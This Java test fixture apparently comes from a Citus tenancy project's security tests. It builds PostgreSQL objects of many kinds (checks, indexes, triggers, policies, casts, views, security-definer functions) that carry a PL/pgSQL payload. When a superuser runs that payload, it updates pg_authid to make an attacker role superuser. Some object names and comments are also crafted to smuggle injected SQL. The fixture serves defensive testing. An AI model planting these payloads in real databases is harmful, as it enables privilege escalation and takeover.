package org.citustenancy.attacks;

import static org.citustenancy.testing.TestCluster.literal;

import java.sql.Connection;
import java.sql.SQLException;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.citustenancy.testing.TestCluster;

/** A payload in every kind of object that can hold code, made by a project's owner. */
final class HostileObjects {

    /** The kinds, by the names under which their payloads are recorded. */
    static final Set<String> KINDS = Set.of(
            "check",
            "constant",
            "constant predicate",
            "domain",
            "default",
            "generated column",
            "index expression",
            "index predicate",
            "partition key",
            "trigger",
            "statement trigger",
            "rule",
            "policy",
            "cast",
            "operator",
            "aggregate",
            "view",
            "materialized view",
            "extended statistics",
            "range type",
            "security definer");

    /** Tables to be distributed by {@code id}, the second beside the first. */
    static final List<String> DISTRIBUTED = List.of("h_dist", "h_beside", "h_parts");

    static final String REFERENCE = "h_ref";
    static final String SCHEMA = "h_tenant";

    /** Rows in each of the tables. */
    static final int ROWS = 8;

    private HostileObjects() {}

    /**
     * The function that records who runs it, and does what an attacker would do with the rights that it finds.
     *
     * @param attacker the role that wants to be a superuser
     */
    static List<String> payload(String attacker) {
        return List.of(
                "create schema evil",
                "grant usage on schema evil to public",
                // Errors are avoided and not caught: a subtransaction that fails inside an index build would end the
                // operation.
                "create function evil.take_over(what text) returns void language plpgsql set search_path = pg_catalog as $$ "
                        + "begin "
                        + "if current_setting('role') = current_user and what !~ '^(index|materialized|range)' then "
                        + "begin execute 'reset role'; exception when others then null; end; end if; "
                        + "if current_setting('transaction_read_only') = 'on' or not exists (select from pg_roles where "
                        + "rolsuper and rolname = current_user) then return; end if; "
                        + "if exists (select from pg_authid where not rolsuper and rolname = " + literal(attacker)
                        + " for update skip locked) then update pg_authid set rolsuper = true where rolname = "
                        + literal(attacker) + "; end if; end $$",
                "create function evil.ran(what text) returns boolean language plpgsql immutable "
                        + "set search_path = pg_catalog as $$ declare privileged boolean; begin "
                        + "select bool_or(rolsuper) into privileged from pg_roles "
                        + "where rolname in (current_user, session_user); "
                        + "raise log '%-ran %', 'payload', json_build_object('payload', what, 'current', current_user, "
                        + "'session', session_user, 'super', privileged, 'database', current_database(), 'application', "
                        + "current_setting('application_name'), 'statement', left(current_query(), 160)); "
                        + "if privileged then perform evil.take_over(what); end if; return true; end $$",
                "create function evil.ran(what text, value bigint) returns boolean language plpgsql immutable as "
                        + "$$ begin return evil.ran(what); end $$",
                "create function evil.number(what text, value bigint) returns bigint language plpgsql immutable as "
                        + "$$ begin perform evil.ran(what); return value; end $$");
    }

    private static final List<String> OBJECTS = List.of(
            "create function evil.defined(value bigint) returns boolean language plpgsql immutable security definer as "
                    + "$$ begin return evil.ran('security definer'); end $$",
            "create domain evil.checked as bigint check (evil.ran('domain', value))",
            "create domain evil.in_constant as bigint check (evil.ran('constant', value))",
            "create type evil.pair as (n evil.in_constant)",
            "create type evil.code as enum ('1', '2', '3', '4', '5', '6', '7', '8')",
            "create function evil.code_number(value evil.code) returns bigint language plpgsql immutable as "
                    + "$$ begin return evil.number('cast', value::text::bigint); end $$",
            "create cast (evil.code as bigint) with function evil.code_number(evil.code) as implicit",
            "create function evil.same(a bigint, b bigint) returns boolean language plpgsql immutable as "
                    + "$$ begin return evil.ran('operator') and a operator(pg_catalog.=) b; end $$",
            "create operator evil.=== (leftarg = bigint, rightarg = bigint, function = evil.same)",
            "create function evil.step(state bigint, value bigint) returns bigint language plpgsql immutable as "
                    + "$$ begin return evil.number('aggregate', state + value); end $$",
            "create aggregate evil.total(bigint) (sfunc = evil.step, stype = bigint, initcond = '0')",
            "create function evil.distance(a bigint, b bigint) returns double precision language plpgsql immutable as "
                    + "$$ begin return evil.number('range type', a - b); end $$",
            "create type evil.span as range (subtype = bigint, subtype_diff = evil.distance)",
            "create function evil.fire() returns trigger language plpgsql as "
                    + "$$ begin perform evil.ran('trigger'); return new; end $$",
            "create function evil.fire_statement() returns trigger language plpgsql as "
                    + "$$ begin perform evil.ran('statement trigger'); return null; end $$",
            // A distributed table, one beside it, one by ranges of an expression, a reference table, a schema.
            table("h_ref", "primary key"),
            table("h_dist", "primary key"),
            "create index on h_dist (evil.number('index expression', id))",
            "create index on h_dist (id) where evil.ran('index predicate', id)",
            "create index on h_dist (id) where evil.ran('constant predicate')",
            "create index on h_ref (evil.number('index expression', id))",
            "alter table h_dist enable row level security",
            "create policy watched on h_dist using (evil.ran('policy', id))",
            "create table h_beside (id bigint primary key, c evil.code, check (evil.ran('check', id)))",
            "create table h_parts (id bigint, n evil.checked, check (evil.ran('check', id))) "
                    + "partition by range (evil.number('partition key', id))",
            "create table h_parts_low partition of h_parts for values from (0) to (4)",
            "create table h_parts_high partition of h_parts for values from (4) to (100)",
            "create schema " + SCHEMA,
            table(SCHEMA + ".doc", "primary key"),
            // What stays on the coordinator.
            table("h_local", "primary key"),
            // Citus carries no casts and no operators.
            "create table h_cast (id bigint primary key, c evil.code references h_local, check (c::bigint > 0), "
                    + "check (id operator(evil.===) id))",
            "create statistics evil.h_local_statistics on (evil.number('extended statistics', id)), id from h_local",
            "create rule watched as on insert to h_local do also select evil.ran('rule')",
            "create trigger fired before insert or update on h_local for each row execute function evil.fire()",
            "create trigger fired_once after insert or truncate on h_local for each statement "
                    + "execute function evil.fire_statement()",
            "alter table h_local enable always trigger fired",
            "create index on h_local (evil.number('index expression', id))",
            "create index on h_local (id) where evil.ran('constant predicate')",
            "create table h_parts_local (id bigint, n evil.checked) partition by list (evil.number('partition key', id % 2))",
            "create table h_parts_local_0 partition of h_parts_local for values in (0)",
            "create table h_parts_local_1 partition of h_parts_local default",
            // Citus distributes no ranges.
            "create table h_spans (r evil.span)",
            "create index on h_spans using gist (r)",
            "create view h_view as select evil.ran('view', id) as seen, id from h_local",
            "create view h_total as select evil.total(id) as total from h_local",
            "create materialized view h_materialized as select id, evil.ran('materialized view', id) as seen, "
                    + "(select evil.total(id) from h_local) as total from h_local",
            "create index on h_materialized (evil.number('index expression', id))");

    /** Things without code that stand where code is looked for, so that an operation stumbles if it takes them for that. */
    private static final List<String> BYSTANDERS = List.of(
            "create sequence evil.\"numbers'; select evil.ran('sequence'); --\"",
            "create collation evil.compared from \"C\"",
            "create text search dictionary evil.words (template = pg_catalog.simple)",
            "create text search configuration evil.searched (copy = pg_catalog.simple)",
            "alter text search configuration evil.searched alter mapping for asciiword with evil.words",
            "create index on h_local using gin (to_tsvector('evil.searched', t))",
            "create default conversion evil.converted for 'LATIN1' to 'UTF8' from iso8859_1_to_utf8",
            "create publication \"said'; select evil.ran('publication'); --\" for table h_dist",
            "comment on table h_dist is '''; select evil.ran(''comment''); --'");

    private static String table(String name, String key) {
        return "create table " + name + " (id bigint " + key + ", d evil.checked, "
                + "v bigint default evil.number('default', 1), p evil.pair default '(1)', "
                + "g bigint generated always as (evil.number('generated column', id)) stored, c evil.code, t text, "
                + "check (evil.ran('check', id)), check (evil.defined(id)))";
    }

    private static String fill(String table) {
        return "insert into " + table + " (id, d, c, t) select i, i, i::text::evil.code, "
                + "'row ' || i from generate_series(1, " + ROWS + ") i";
    }

    /** Makes all of it, with rows, as the owner whose connection it is; {@link #payload} is there. */
    static void make(Connection owner) throws SQLException {
        List<String> rows = Stream.concat(
                        Stream.of("h_ref", "h_dist", SCHEMA + ".doc", "h_local").map(HostileObjects::fill),
                        Stream.of(
                                "insert into h_beside select i, i::text::evil.code from generate_series(1, " + ROWS
                                        + ") i",
                                "insert into h_cast select i, i::text::evil.code from generate_series(1, " + ROWS
                                        + ") i",
                                "insert into h_parts select i, i from generate_series(1, " + ROWS + ") i",
                                "insert into h_parts_local select i, i from generate_series(1, " + ROWS + ") i",
                                "insert into h_spans select evil.span(i, i + 3) from generate_series(1, 300) i",
                                "refresh materialized view h_materialized"))
                .toList();
        for (List<String> statements : List.of(OBJECTS, BYSTANDERS, rows)) {
            for (String statement : statements) {
                TestCluster.ask(owner, statement);
            }
        }
    }

    /** Makes each payload run that the owner or a reader can make run. */
    static void exercise(Connection owner, Connection reader) throws SQLException {
        for (String statement : List.of(
                "analyze h_local",
                "analyze h_dist",
                "select * from h_view",
                "select * from h_total",
                "select * from h_materialized",
                "analyze h_spans")) {
            TestCluster.ask(owner, statement);
        }
        TestCluster.ask(reader, "select * from h_dist");
    }
}
